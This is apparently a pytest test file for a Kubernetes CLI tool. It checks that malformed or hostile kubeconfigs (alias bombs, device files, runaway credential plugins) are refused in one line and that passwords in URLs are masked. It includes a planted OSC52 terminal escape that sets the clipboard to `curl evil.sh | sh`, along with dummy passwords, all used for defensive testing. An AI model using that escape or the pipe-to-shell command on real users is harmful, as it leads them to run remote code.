"""A kubeconfig is untrusted input: whatever it is (a list, a scalar, /dev/zero, an alias
bomb, 5 MiB of clusters, binary) `mignurse` says so in one line (exit 2) before the
kubernetes client spends minutes and gigabytes on it; a failing credential plugin too."""

from __future__ import annotations

import base64
import contextlib
import copy
import json
import os
import select
import socket
import sys
import threading
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import yaml

from mignurse.cluster import credentials
from mignurse.cluster import kubeconfig as kubeconfig_files
from mignurse.cluster.client import NODES, ClusterClient, KubeconfigError, Unauthorized
from mignurse.model import Node
from mignurse.sim import SimCluster

from .inputs import MiB, billion_laughs, mignurse, one_line_error
from .peak import mignurse_peak


def closed_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def kubeconfig(server: str, user: dict[str, object]) -> dict[str, object]:
    return {
        "apiVersion": "v1",
        "kind": "Config",
        "current-context": "prod",
        "clusters": [{"name": "prod", "cluster": {"server": server}}],
        "contexts": [{"name": "prod", "context": {"cluster": "prod", "user": "prod"}}],
        "users": [{"name": "prod", "user": user}],
    }


def many_clusters(size: int) -> str:
    entry = (
        "- name: arn:aws:eks:us-west-2:111122223333:cluster/c{i}\n"
        "  cluster:\n    server: https://{i:032X}.gr7.us-west-2.eks.amazonaws.com\n"
        "    certificate-authority-data: " + "TFMwdExTMUNSVWRKVGlCRFJWSlVTVVpK" * 40 + "\n"
    )
    body, i = [], 0
    while sum(map(len, body)) < size:
        body.append(entry.format(i=i))
        i += 1
    return "apiVersion: v1\ncurrent-context: c0\ncontexts: []\nusers: []\nclusters:\n" + "".join(
        body
    )


CASES = {
    "a list": ("- clusters: []\n- users: []\n", "YAML list"),
    "a scalar": ("just words\n", "YAML single value"),
    "empty": ("", "is empty"),
    "clusters of numbers": ("clusters: [1, 2]\ncontexts: []\nusers: []\n", "clusters must be"),
    "an alias bomb": (billion_laughs("clusters"), "aliases expand"),
    "a recursive alias": ("clusters: &c [*c]\n", "refers to the node"),
    "binary": (None, "not UTF-8"),
    "5 MiB of clusters": (many_clusters(5 * MiB), "MIGNURSE_MAX_KUBECONFIG_BYTES="),
    "200k-deep": ("clusters: " + "[" * 200_000 + "]" * 200_000 + "\n", "not valid YAML"),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_what_is_no_kubeconfig_is_one_line(tmp_path: Path, case: str) -> None:
    text, said = CASES[case]
    path = tmp_path / "config"
    if text is None:
        path.write_bytes(bytes(range(256)) * 16)
    else:
        path.write_text(text)
    err = one_line_error(mignurse("--kubeconfig", str(path), "nodes", timeout=60))
    assert str(path) in err and said in err


@pytest.mark.parametrize("device", ["/dev/zero", "/dev/urandom"])
def test_a_device_as_kubeconfig_is_refused_unread(device: str) -> None:
    for how in (("--kubeconfig", device, "nodes"), ("nodes",)):
        env = {} if how[0] == "--kubeconfig" else {"KUBECONFIG": device}
        err = one_line_error(mignurse(*how, env=env, timeout=60))
        assert f"kubeconfig {device} is not a regular file" in err


def test_a_failing_credential_plugin_is_one_line_without_log_noise(tmp_path: Path) -> None:
    plugin = [
        "-c",
        "import sys; sys.stderr.write('ExpiredToken: the SSO session has expired\\n'); "
        "sys.exit(255)",
    ]
    exec_user = {
        "exec": {
            "apiVersion": "client.authentication.k8s.io/v1beta1",
            "command": sys.executable,
            "args": plugin,
            "interactiveMode": "Never",
        }
    }
    path = tmp_path / "config"
    server = f"https://127.0.0.1:{closed_port()}"
    path.write_text(yaml.safe_dump(kubeconfig(server, exec_user)))
    result = mignurse("--kubeconfig", str(path), "nodes", timeout=60)
    err = one_line_error(result)
    assert "ERROR:root" not in result.stderr and "Retrying" not in result.stderr
    # another plugin's failure is taken for an expired login: its own command line renews it
    assert f"context 'prod': credentials expired: run `{sys.executable} -c " in err
    assert "`: credential plugin `python" in err
    assert "failed (exit 255): ExpiredToken: the SSO session has expired" in err


def test_a_good_kubeconfig_still_reaches_its_server(tmp_path: Path) -> None:
    path = tmp_path / "config"
    port = closed_port()
    path.write_text(yaml.safe_dump(kubeconfig(f"https://127.0.0.1:{port}", {"token": "t"})))
    err = one_line_error(mignurse("--kubeconfig", str(path), "nodes", timeout=60))
    assert f"cannot reach the Kubernetes API at https://127.0.0.1:{port}" in err


# -- files a kubeconfig names ------------------------------------------------------------------


def measured(*args: str, env: dict[str, str], timeout: float = 120) -> tuple[str, str, int, int]:
    """`python -m mignurse ARGS` in a fresh interpreter: its stdout, stderr, exit code and
    peak RSS in bytes (`peak.mignurse_peak`)."""
    clean = {
        k: v
        for k, v in os.environ.items()
        if not k.startswith(("AWS_", "KUBE", "MIGNURSE_", "XDG_STATE_HOME"))
    }
    clean.update(env)
    done, peak = mignurse_peak(*args, env=clean, timeout=timeout)
    return done.stdout, done.stderr, done.returncode, peak


def one_line_within_memory(*args: str, env: dict[str, str] | None = None) -> str:
    """The one error line of a command that must also stay well under 1 GB RSS."""
    _out, err, code, peak = measured(*args, env=env or {})
    assert code == 2, (code, err[-2000:])
    assert err.count("\n") == 1 and err.startswith("mignurse: error: "), err[-2000:]
    assert peak < 500 * MiB, f"peak RSS {peak / MiB:.0f} MiB"
    return err.strip()


def hostile_file(tmp_path: Path, kind: str) -> Path:
    """What a kubeconfig's path may point at instead of a small file."""
    if kind == "/dev/zero":
        return Path("/dev/zero")
    target = tmp_path / ("hostile-" + "-".join(kind.replace("/", " ").split()))
    if kind == "a FIFO":
        os.mkfifo(target)  # no writer ever comes: opening it for reading would wait forever
    elif kind == "a folder":
        target.mkdir()
    elif kind == "a 10 GB sparse file":
        with target.open("wb") as handle:
            handle.truncate(10 * 10**9)
    elif kind == "a symlink to /dev/zero":
        target.symlink_to("/dev/zero")
    elif kind == "a socket":
        server = socket.socket(socket.AF_UNIX)
        server.bind(str(target))
        server.close()
    return target


HOSTILE = ["/dev/zero", "a FIFO", "a folder", "a 10 GB sparse file", "a symlink to /dev/zero"]


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_token_file_that_is_no_small_file_is_refused_unread(tmp_path: Path, kind: str) -> None:
    token_file = hostile_file(tmp_path, kind)
    path = tmp_path / "config"
    server = f"https://127.0.0.1:{closed_port()}"
    path.write_text(yaml.safe_dump(kubeconfig(server, {"tokenFile": str(token_file)})))
    err = one_line_within_memory("--kubeconfig", str(path), "nodes")
    assert f"tokenFile of user 'prod': {token_file}" in err
    said = {"a folder": "is a folder", "a 10 GB sparse file": "MIGNURSE_MAX_KUBECONFIG_BYTES="}
    assert said.get(kind, "is not a regular file") in err


@pytest.mark.parametrize(
    ("field", "where"),
    [
        ("certificate-authority", "cluster"),
        ("client-certificate", "user"),
        ("client-key", "user"),
    ],
)
@pytest.mark.parametrize("kind", ["/dev/zero", "a FIFO"])
def test_a_certificate_path_that_is_no_file_names_the_field(
    tmp_path: Path, field: str, where: str, kind: str
) -> None:
    target = hostile_file(tmp_path, kind)
    config = kubeconfig(f"https://127.0.0.1:{closed_port()}", {"token": "t0ken"})
    entries = config["clusters" if where == "cluster" else "users"]
    assert isinstance(entries, list)
    entries[0][where][field] = str(target)
    path = tmp_path / "config"
    path.write_text(yaml.safe_dump(config))
    err = one_line_error(mignurse("--kubeconfig", str(path), "nodes", timeout=60))
    assert f"{field} of {where} 'prod': {target} is not a regular file" in err


@pytest.mark.parametrize("kind", ["a FIFO", "a symlink to /dev/zero", "a folder", "a socket"])
def test_a_kubeconfig_that_is_no_file_is_refused_unread(tmp_path: Path, kind: str) -> None:
    target = hostile_file(tmp_path, kind)
    said = "is a folder" if kind == "a folder" else "is not a regular file"
    for how, env in (
        (("--kubeconfig", str(target), "nodes"), {}),
        (("nodes",), {"KUBECONFIG": f"{tmp_path / 'absent'}{os.pathsep}{target}"}),
    ):
        err = one_line_error(mignurse(*how, env=env, timeout=60))
        assert f"kubeconfig {target} {said}" in err


def test_files_named_relative_to_the_kubeconfig_reach_the_server(
    healthy: tuple[SimCluster, Path], tmp_path: Path
) -> None:
    """A tokenFile written by `echo` (a trailing newline) and a CA file, named relative to
    the kubeconfig as kubectl reads them, from any working directory."""
    sim, _kubeconfig = healthy
    config = sim.kubeconfig()
    folder = tmp_path / "kube"
    folder.mkdir()
    (folder / "token").write_text(sim.token + "\n")
    (folder / "ca.crt").write_bytes(sim.tls.ca_pem)
    cluster = config["clusters"][0]["cluster"]
    del cluster["certificate-authority-data"]
    cluster["certificate-authority"] = "ca.crt"
    config["users"][0]["user"] = {"tokenFile": "token"}
    path = folder / "config"
    path.write_text(yaml.safe_dump(config))
    result = mignurse("--kubeconfig", str(path), "nodes", "-o", "json", timeout=60)
    assert result.returncode == 0, result.stderr[-2000:]
    assert any(n["metadata"]["name"] in result.stdout for n in sim.objects("nodes"))


# -- credential plugins ------------------------------------------------------------------------


def plugin_user(code: str, **extra: object) -> dict[str, object]:
    """A user whose credential plugin is this Python code (as `aws eks get-token` is a
    command the kubeconfig names)."""
    return {
        "exec": {
            "apiVersion": "client.authentication.k8s.io/v1beta1",
            "command": sys.executable,
            "args": ["-c", code],
            "interactiveMode": "IfAvailable",
            **extra,
        }
    }


def answer(token: str) -> str:
    credential = {
        "apiVersion": "client.authentication.k8s.io/v1beta1",
        "kind": "ExecCredential",
        "status": {"token": token, "expirationTimestamp": "2099-01-01T00:00:00Z"},
    }
    return f"import sys; sys.stdout.write({json.dumps(credential)!r})"


PLUGINS = {
    "sleeps": ("import time; time.sleep(600)", "gave no answer in 2 s"),
    "forks a child that holds its pipes": (
        "import os, time\nif os.fork() == 0: time.sleep(600)\nelse: os._exit(0)",
        "gave no answer in 2 s",
    ),
    "reads its stdin": ("import sys; sys.stdin.read(); print('{}')", "not an ExecCredential"),
    "writes forever": (
        "import sys\nwhile True: sys.stdout.write('x' * 65536)",
        "wrote more than 1 MiB: it was stopped (MIGNURSE_MAX_CREDENTIAL_PLUGIN_BYTES",
    ),
    "writes stderr forever": (
        "import sys\nwhile True: sys.stderr.write('warning ' * 8192)",
        "gave no answer in 2 s",
    ),
    "answers no JSON": ("print('Enter MFA code:')", "answered something that is not JSON"),
    "answers deep JSON": ("print('[' * 500000 + ']' * 500000)", "something that is not JSON"),
    "answers a token with a newline": (
        answer("abc\ndef"),
        "answered a token that is not one line",
    ),
    "answers a token that expired in year 1": (
        answer("t0ken").replace("2099-01-01", "0001-01-01"),
        "cannot reach the Kubernetes API",
    ),
    "answers another apiVersion": (
        answer("t").replace("v1beta1", "v1"),
        "answered apiVersion client.authentication.k8s.io/v1, not the "
        "client.authentication.k8s.io/v1beta1",
    ),
}


@pytest.mark.parametrize("case", sorted(PLUGINS))
def test_a_credential_plugin_that_misbehaves_is_stopped_in_one_line(
    tmp_path: Path, case: str
) -> None:
    code, said = PLUGINS[case]
    path = tmp_path / "config"
    path.write_text(
        yaml.safe_dump(kubeconfig(f"https://127.0.0.1:{closed_port()}", plugin_user(code)))
    )
    err = one_line_within_memory(
        "--kubeconfig", str(path), "nodes", env={"MIGNURSE_CREDENTIAL_PLUGIN_SECONDS": "2"}
    )
    assert said in err
    assert "context 'prod': credential plugin `python" in err or said.startswith("cannot reach")


def test_a_missing_plugin_says_how_to_install_it(tmp_path: Path) -> None:
    user = {
        "exec": {
            "apiVersion": "client.authentication.k8s.io/v1beta1",
            "command": "aws-iam-authenticator-not-installed",
            "args": ["token", "-i", "prod"],
            "installHint": "brew install aws-iam-authenticator",
        }
    }
    path = tmp_path / "config"
    path.write_text(yaml.safe_dump(kubeconfig(f"https://127.0.0.1:{closed_port()}", user)))
    err = one_line_error(mignurse("--kubeconfig", str(path), "nodes", timeout=60))
    assert "credential plugin `aws-iam-authenticator-not-installed token` was not found" in err
    assert err.endswith("brew install aws-iam-authenticator")


def test_a_plugin_token_reaches_the_server_and_the_plugin_gets_no_terminal(
    healthy: tuple[SimCluster, Path], tmp_path: Path
) -> None:
    sim, _kubeconfig = healthy
    config = sim.kubeconfig()
    seen = tmp_path / "exec-info"
    code = (
        f"import os, sys; open({str(seen)!r}, 'w').write(os.environ['KUBERNETES_EXEC_INFO'] "
        "+ '\\n' + str(sys.stdin is None or sys.stdin.read() == ''))\n" + answer(sim.token)
    )
    config["users"][0]["user"] = plugin_user(code, provideClusterInfo=True)
    issued = datetime(2026, 12, 5, 3, 0, tzinfo=UTC)  # a YAML timestamp: no JSON type
    extension = {"name": "client.authentication.k8s.io/exec", "extension": {"issued": issued}}
    config["clusters"][0]["cluster"]["extensions"].append(extension)
    path = tmp_path / "config"
    path.write_text(yaml.safe_dump(config))
    result = mignurse("--kubeconfig", str(path), "nodes", "-o", "json", timeout=60)
    assert result.returncode == 0, result.stderr[-2000:]
    assert any(n["metadata"]["name"] in result.stdout for n in sim.objects("nodes"))
    exec_info, stdin_empty = seen.read_text().splitlines()
    spec = json.loads(exec_info)["spec"]
    assert spec["interactive"] is False and spec["cluster"]["server"] == sim.url
    assert spec["cluster"]["config"] == {"issued": "2026-12-05 03:00:00+00:00"}
    assert stdin_empty == "True"


# -- proxies and secrets in URLs ---------------------------------------------------------------


class Socks5Proxy:
    """A SOCKS5 proxy on 127.0.0.1 that relays each CONNECT (RFC 1928), asking for a
    username and password when given them (RFC 1929): what `ssh -D` to a bastion offers."""

    def __init__(self, user: str = "", password: str = "") -> None:
        self.user, self.password = user, password
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = int(self.listener.getsockname()[1])
        self.connects: list[tuple[str, int]] = []
        threading.Thread(target=self._accept, daemon=True).start()

    def close(self) -> None:
        self.listener.close()

    def _accept(self) -> None:
        while True:
            try:
                client, _ = self.listener.accept()
            except OSError:
                return
            threading.Thread(target=self._serve, args=(client,), daemon=True).start()

    def _serve(self, client: socket.socket) -> None:
        # A client that hangs up mid-handshake (it gave up after a refusal) ends its thread
        # as a real proxy's connection ends, not as an unhandled error.
        with contextlib.suppress(ConnectionError), client:
            self._handshake(client)

    def _handshake(self, client: socket.socket) -> None:
        _version, count = _exactly(client, 2)
        methods = _exactly(client, count)
        if self.user:
            if 2 not in methods:
                client.sendall(b"\x05\xff")
                return
            client.sendall(b"\x05\x02")
            _exactly(client, 1)
            user = _exactly(client, _exactly(client, 1)[0]).decode()
            password = _exactly(client, _exactly(client, 1)[0]).decode()
            allowed = (user, password) == (self.user, self.password)
            client.sendall(b"\x01\x00" if allowed else b"\x01\x01")
            if not allowed:
                return
        else:
            client.sendall(b"\x05\x00")
        _version, _command, _reserved, kind = _exactly(client, 4)
        if kind == 1:
            host = socket.inet_ntoa(_exactly(client, 4))
        else:
            host = _exactly(client, _exactly(client, 1)[0]).decode()
        port = int.from_bytes(_exactly(client, 2), "big")
        self.connects.append((host, port))
        with socket.create_connection((host, port)) as upstream:
            client.sendall(b"\x05\x00\x00\x01" + bytes(6))
            _relay(client, upstream)


def _exactly(sock: socket.socket, count: int) -> bytes:
    data = b""
    while len(data) < count:
        chunk = sock.recv(count - len(data))
        if not chunk:
            raise ConnectionError("closed")
        data += chunk
    return data


def _relay(one: socket.socket, other: socket.socket) -> None:
    peers = {one: other, other: one}
    while True:
        ready, _, _ = select.select(list(peers), [], [], 30)
        if not ready:
            return
        for sock in ready:
            data = sock.recv(65536)
            if not data:
                return
            peers[sock].sendall(data)


@pytest.fixture
def socks_proxy() -> Iterator[Socks5Proxy]:
    proxy = Socks5Proxy("oncall", "Pr0xy-Pa55word")
    yield proxy
    proxy.close()


@pytest.mark.parametrize("scheme", ["socks5", "socks5h"])
def test_a_socks_proxy_url_reaches_the_server_through_the_proxy(
    healthy: tuple[SimCluster, Path], tmp_path: Path, socks_proxy: Socks5Proxy, scheme: str
) -> None:
    sim, _kubeconfig = healthy
    config = sim.kubeconfig()
    proxy_url = f"{scheme}://oncall:Pr0xy-Pa55word@127.0.0.1:{socks_proxy.port}"
    config["clusters"][0]["cluster"]["proxy-url"] = proxy_url
    path = tmp_path / "config"
    path.write_text(yaml.safe_dump(config))
    result = mignurse("--kubeconfig", str(path), "nodes", "-o", "json", timeout=60)
    assert result.returncode == 0, result.stderr[-2000:]
    assert any(n["metadata"]["name"] in result.stdout for n in sim.objects("nodes"))
    sim_port = int(sim.url.rsplit(":", 1)[1])
    assert socks_proxy.connects and all(port == sim_port for _h, port in socks_proxy.connects)


@pytest.mark.parametrize(
    ("proxy", "said"),
    [
        (
            "socks5://oncall:Wr0ng-Pa55word@127.0.0.1:{socks}",
            "through proxy socks5://***@127.0.0.1:{socks} (context 'prod'): SOCKS5 authentication "
            "failed",
        ),
        (
            "socks5h://oncall:Wr0ng-Pa55word@127.0.0.1:{closed}",
            "through proxy socks5h://***@127.0.0.1:{closed} (context 'prod'): ",
        ),
        (
            "http://oncall:Wr0ng-Pa55word@127.0.0.1:{closed}",
            "through proxy http://***@127.0.0.1:{closed} (context 'prod'): ",
        ),
    ],
)
def test_a_proxy_that_refuses_is_one_line_without_its_password(
    tmp_path: Path, socks_proxy: Socks5Proxy, proxy: str, said: str
) -> None:
    ports = {"socks": socks_proxy.port, "closed": closed_port()}
    server = f"https://127.0.0.1:{closed_port()}"
    config = kubeconfig(server, {"token": "t0ken"})
    clusters = config["clusters"]
    assert isinstance(clusters, list)
    clusters[0]["cluster"]["proxy-url"] = proxy.format(**ports)
    path = tmp_path / "config"
    path.write_text(yaml.safe_dump(config))
    result = mignurse("--kubeconfig", str(path), "nodes", timeout=60)
    assert "Wr0ng-Pa55word" not in result.stdout + result.stderr
    err = one_line_error(result)
    assert "cannot reach the Kubernetes API at https://127.0.0.1" in err
    assert said.format(**ports) in err


def test_a_proxy_scheme_the_client_cannot_use_is_refused(tmp_path: Path) -> None:
    config = kubeconfig(f"https://127.0.0.1:{closed_port()}", {"token": "t0ken"})
    clusters = config["clusters"]
    assert isinstance(clusters, list)
    clusters[0]["cluster"]["proxy-url"] = "ftp://oncall:Pa55word@127.0.0.1:2121"
    path = tmp_path / "config"
    path.write_text(yaml.safe_dump(config))
    result = mignurse("--kubeconfig", str(path), "nodes", timeout=60)
    assert "Pa55word" not in result.stdout + result.stderr
    err = one_line_error(result)
    assert "proxy-url ftp://***@127.0.0.1:2121 of cluster 'prod'" in err and "socks5://" in err


SERVERS = [
    "https://admin:S3cret-Pa55@127.0.0.1:{port}",
    "https://admin:S3cret-Pa55@127.0.0.1:{port}/?token=S3cret-Qu3ry",
    "https://S3cret-T0ken-as-user@127.0.0.1:{port}",
    "https://admin:S3cret%2FPa55@127.0.0.1:{port}",
]


@pytest.mark.parametrize("server", SERVERS)
@pytest.mark.parametrize("command", [("nodes",), ("diagnose",), ("nodes", "-o", "json")])
def test_a_password_in_the_server_url_is_printed_nowhere(
    tmp_path: Path, server: str, command: tuple[str, ...]
) -> None:
    port = closed_port()
    path = tmp_path / "config"
    path.write_text(yaml.safe_dump(kubeconfig(server.format(port=port), {"token": "t0ken"})))
    result = mignurse("--kubeconfig", str(path), *command, timeout=60)
    printed = result.stdout + result.stderr
    assert "S3cret" not in printed
    err = one_line_error(result)
    assert f"cannot reach the Kubernetes API at https://***@127.0.0.1:{port}" in err


def test_the_context_info_the_app_shows_has_the_password_masked(tmp_path: Path) -> None:
    port = closed_port()
    path = tmp_path / "config"
    server = f"https://admin:S3cret-Pa55@127.0.0.1:{port}/?token=S3cret-Qu3ry"
    path.write_text(yaml.safe_dump(kubeconfig(server, {"token": "t0ken"})))
    client = ClusterClient.connect(kubeconfig=str(path))
    assert client.info.server == f"https://***@127.0.0.1:{port}/?token=***"


# -- credentials renewed during a session ------------------------------------------------------


def test_a_rotated_token_file_is_read_again_and_a_fifo_in_its_place_blocks_nothing(
    healthy: tuple[SimCluster, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    sim, _kubeconfig = healthy
    monkeypatch.setattr(credentials, "RETRY_AFTER", timedelta(0))  # read before each request
    token = tmp_path / "token"
    token.write_text(sim.token)
    config = sim.kubeconfig()
    config["users"][0]["user"] = {"tokenFile": str(token)}
    path = tmp_path / "config"
    path.write_text(yaml.safe_dump(config))
    client = ClusterClient.connect(kubeconfig=str(path))
    assert client.list(NODES, Node.from_api).items
    token.unlink()
    os.mkfifo(token)  # planted while the app runs: reading it would wait for a writer forever
    assert client.list(NODES, Node.from_api).items  # the token read before is kept
    token.unlink()
    token.write_text("rotated-away\n")
    with pytest.raises(Unauthorized):
        client.list(NODES, Node.from_api)


def test_a_plugin_credential_is_fetched_again_before_it_expires_and_a_hang_then_is_bounded(
    healthy: tuple[SimCluster, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    sim, _kubeconfig = healthy
    monkeypatch.setattr(credentials, "RETRY_AFTER", timedelta(0))
    monkeypatch.setenv("MIGNURSE_CREDENTIAL_PLUGIN_SECONDS", "1")
    runs, hang = tmp_path / "runs", tmp_path / "hang"
    expiring_now = (
        "import datetime, json, os, sys, time\n"
        f"open({str(runs)!r}, 'a').write('ran\\n')\n"
        f"if os.path.exists({str(hang)!r}): time.sleep(600)\n"
        "now = datetime.datetime.now(datetime.timezone.utc).isoformat()\n"
        "sys.stdout.write(json.dumps({'apiVersion': 'client.authentication.k8s.io/v1beta1', "
        f"'kind': 'ExecCredential', 'status': {{'token': {sim.token!r}, "
        "'expirationTimestamp': now}}))\n"
    )
    config = sim.kubeconfig()
    config["users"][0]["user"] = plugin_user(expiring_now)
    path = tmp_path / "config"
    path.write_text(yaml.safe_dump(config))
    client = ClusterClient.connect(kubeconfig=str(path))
    assert client.list(NODES, Node.from_api).items
    assert len(runs.read_text().splitlines()) >= 2  # at connect, and again before the request
    hang.touch()
    before = len(runs.read_text().splitlines())
    assert client.list(NODES, Node.from_api).items  # renewal gave up; the token it had served
    assert len(runs.read_text().splitlines()) > before


# -- several kubeconfig files --------------------------------------------------------------------


def test_files_merge_as_kubectl_merges_them(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The first file to set current-context or to name a cluster wins; the app's context
    palette lists every file's contexts, and none when a file is a FIFO."""
    first_port, second_port = closed_port(), closed_port()
    first = kubeconfig(f"https://127.0.0.1:{first_port}", {"token": "t0ken"})
    second = kubeconfig(f"https://127.0.0.1:{second_port}", {"token": "t0ken"})
    second["current-context"] = "staging"
    contexts = second["contexts"]
    assert isinstance(contexts, list)
    contexts.append({"name": "staging", "context": {"cluster": "prod", "user": "prod"}})
    (tmp_path / "first").write_text(yaml.safe_dump(first))
    (tmp_path / "second").write_text(yaml.safe_dump(second))
    monkeypatch.setenv("KUBECONFIG", f"{tmp_path / 'first'}{os.pathsep}{tmp_path / 'second'}")
    client = ClusterClient.connect()
    assert client.info.context == "prod"
    assert client.info.server == f"https://127.0.0.1:{first_port}"
    staging = ClusterClient.connect(context="staging")
    assert staging.info.server == f"https://127.0.0.1:{first_port}"  # cluster prod: the first
    assert kubeconfig_files.list_contexts(None) == ["prod", "staging"]
    os.mkfifo(tmp_path / "third")
    monkeypatch.setenv("KUBECONFIG", f"{tmp_path / 'first'}{os.pathsep}{tmp_path / 'third'}")
    assert kubeconfig_files.list_contexts(None) == []


# -- escapes planted in a kubeconfig -------------------------------------------------------------

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # sets the clipboard to `curl evil.sh | sh`
PLANTED = OSC52 + "\x1b[2J\u202e\u200b\x9b31m"
RAW = ("\x1b", "\x07", "\x9b", "\u202e", "\u200b")


def planted_kubeconfig(tmp_path: Path, where: str) -> tuple[Path, list[str]]:
    config = kubeconfig(f"https://127.0.0.1:{closed_port()}", {"token": "t0ken"})
    clusters, contexts, users = config["clusters"], config["contexts"], config["users"]
    assert isinstance(clusters, list) and isinstance(contexts, list) and isinstance(users, list)
    args = ["nodes"]
    if where == "a context name":
        contexts.append({"name": "evil" + PLANTED, "context": {"cluster": "prod"}})
        args = ["--context", "nope", "nodes"]
    elif where == "a plugin's stderr":
        code = f"import sys; sys.stderr.write({PLANTED!r}); sys.exit(1)"
        users[0]["user"] = plugin_user(code)
    elif where == "a plugin's install hint":
        users[0]["user"] = {
            "exec": {"apiVersion": "v1", "command": "absent-plugin", "installHint": PLANTED}
        }
    elif where == "a tokenFile path":
        users[0]["user"] = {"tokenFile": str(tmp_path / ("token" + PLANTED))}
    elif where == "a proxy-url":
        clusters[0]["cluster"]["proxy-url"] = f"gopher://127.0.0.1/{PLANTED}"
    elif where == "the server URL":
        clusters[0]["cluster"]["server"] += "/" + PLANTED
    path = tmp_path / "config"
    path.write_text(yaml.safe_dump(config))
    return path, args


@pytest.mark.parametrize(
    "where",
    [
        "a context name",
        "a plugin's stderr",
        "a plugin's install hint",
        "a tokenFile path",
        "a proxy-url",
        "the server URL",
    ],
)
def test_escapes_planted_in_a_kubeconfig_reach_the_terminal_inert(
    tmp_path: Path, where: str
) -> None:
    path, args = planted_kubeconfig(tmp_path, where)
    result = mignurse("--kubeconfig", str(path), *args, timeout=60)
    printed = result.stdout + result.stderr
    assert not any(raw in printed for raw in RAW), printed
    err = one_line_error(result)
    assert "\\x1b]52;c;" in err


def test_a_plugin_timeout_set_wrong_is_one_line(tmp_path: Path) -> None:
    path = tmp_path / "config"
    code = answer("t0ken")
    path.write_text(
        yaml.safe_dump(kubeconfig(f"https://127.0.0.1:{closed_port()}", plugin_user(code)))
    )
    env = {"MIGNURSE_CREDENTIAL_PLUGIN_SECONDS": "soon"}
    err = one_line_error(mignurse("--kubeconfig", str(path), "nodes", env=env, timeout=60))
    assert "MIGNURSE_CREDENTIAL_PLUGIN_SECONDS='soon' is not a number of seconds (e.g. 60)" in err


USERS = {
    "a plugin that asks for a terminal": (
        {"exec": {"apiVersion": "v1", "command": "aws", "interactiveMode": "Always"}},
        "asks for a terminal (interactiveMode: Always)",
    ),
    "a plugin without a command": ({"exec": {"apiVersion": "v1"}}, "exec has no command"),
    "plugin args that are a mapping": (
        {"exec": {"apiVersion": "v1", "command": "aws", "args": {"a": 1}}},
        "exec args must be a list of strings",
    ),
    "a plugin env without names": (
        {"exec": {"apiVersion": "v1", "command": "aws", "env": ["AWS_PROFILE=prod"]}},
        "exec env must be a list of entries with name and value",
    ),
    "a plugin env name with a NUL byte": (
        {
            "exec": {
                "apiVersion": "v1",
                "command": "aws",
                "env": [{"name": "AWS\x00PROFILE", "value": "prod"}],
            }
        },
        "credential plugin `aws` could not start: ",
    ),
    "a tokenFile that is a number": ({"tokenFile": 7}, "tokenFile of user 'prod': is not a path"),
    "a token with a newline": ({"token": "abc\ndef"}, "is not one line of printable ASCII"),
    "the gcp auth-provider": (
        {"auth-provider": {"name": "gcp", "config": {"cmd-path": "/bin/sleep"}}},
        "uses the gcp auth-provider, which kubectl no longer supports",
    ),
    "client-key-data that is no base64": (
        {"client-certificate-data": "eA==", "client-key-data": "-----BEGIN RSA PRIVATE KEY-----"},
        "client-key-data of user 'prod' is not base64",
    ),
    "a missing client-key": (
        {"client-certificate-data": "eA==", "client-key": "absent.key"},
        "cannot read client-key of user 'prod': ",
    ),
}


@pytest.mark.parametrize("case", sorted(USERS))
def test_a_user_entry_kubectl_would_refuse_is_one_line(tmp_path: Path, case: str) -> None:
    user, said = USERS[case]
    path = tmp_path / "config"
    path.write_text(yaml.safe_dump(kubeconfig(f"https://127.0.0.1:{closed_port()}", user)))
    err = one_line_error(mignurse("--kubeconfig", str(path), "nodes", timeout=60))
    assert said in err


def jwt(expires: float) -> str:
    def part(claims: dict[str, object]) -> str:
        return base64.urlsafe_b64encode(json.dumps(claims).encode()).decode().rstrip("=")

    return f"{part({'alg': 'RS256'})}.{part({'exp': expires, 'sub': 'oncall'})}.c2lnbmF0dXJl"


def test_an_expired_oidc_token_is_refused_without_calling_the_identity_provider(
    tmp_path: Path,
) -> None:
    """The client would fetch the issuer's discovery document with no timeout: a black hole
    (a listener that never answers) there held `nodes` for as long as the socket lived."""
    with socket.create_server(("127.0.0.1", 0)) as black_hole:
        issuer = f"http://127.0.0.1:{black_hole.getsockname()[1]}"
        user = {
            "auth-provider": {
                "name": "oidc",
                "config": {
                    "id-token": jwt(1_600_000_000),
                    "idp-issuer-url": issuer,
                    "client-id": "mignurse",
                    "refresh-token": "r3fresh",
                },
            }
        }
        path = tmp_path / "config"
        path.write_text(yaml.safe_dump(kubeconfig(f"https://127.0.0.1:{closed_port()}", user)))
        err = one_line_error(mignurse("--kubeconfig", str(path), "nodes", timeout=60))
    assert "the oidc id-token of user 'prod'" in err and "has expired" in err


@pytest.mark.parametrize(
    ("proxy", "said"),
    [
        ("ftp://oncall:Env-Pa55word@127.0.0.1:2121", "the proxy ftp://***@127.0.0.1:2121 from"),
        ("oncall:Env-Pa55word@127.0.0.1:{closed}", "through proxy http://***@127.0.0.1:{closed} "),
        ("socks5h://oncall:Env-Pa55word@127.0.0.1:{closed}", "through proxy socks5h://***@"),
    ],
)
def test_a_proxy_from_the_environment_is_used_or_refused_without_its_password(
    tmp_path: Path, proxy: str, said: str
) -> None:
    closed = closed_port()
    path = tmp_path / "config"
    path.write_text(
        yaml.safe_dump(kubeconfig(f"https://127.0.0.1:{closed_port()}", {"token": "t0ken"}))
    )
    env = {"HTTPS_PROXY": proxy.format(closed=closed), "https_proxy": proxy.format(closed=closed)}
    result = mignurse("--kubeconfig", str(path), "nodes", env=env, timeout=60)
    assert "Env-Pa55word" not in result.stdout + result.stderr
    assert said.format(closed=closed) in one_line_error(result)


WRONG_TYPES: list[object] = [None, 7, "x", [], {}, [7], {"a": 7}, True, -1, 1e308, "a\x00b"]
WRONG_TYPES += [datetime(2026, 12, 5, tzinfo=UTC), ["x"], [{"name": 7}]]


def every_field(value: object, at: tuple[object, ...] = ()) -> Iterator[tuple[object, ...]]:
    if at:
        yield at
    if isinstance(value, dict):
        for key, inner in value.items():
            yield from every_field(inner, (*at, key))
    elif isinstance(value, list):
        for index, inner in enumerate(value):
            yield from every_field(inner, (*at, index))


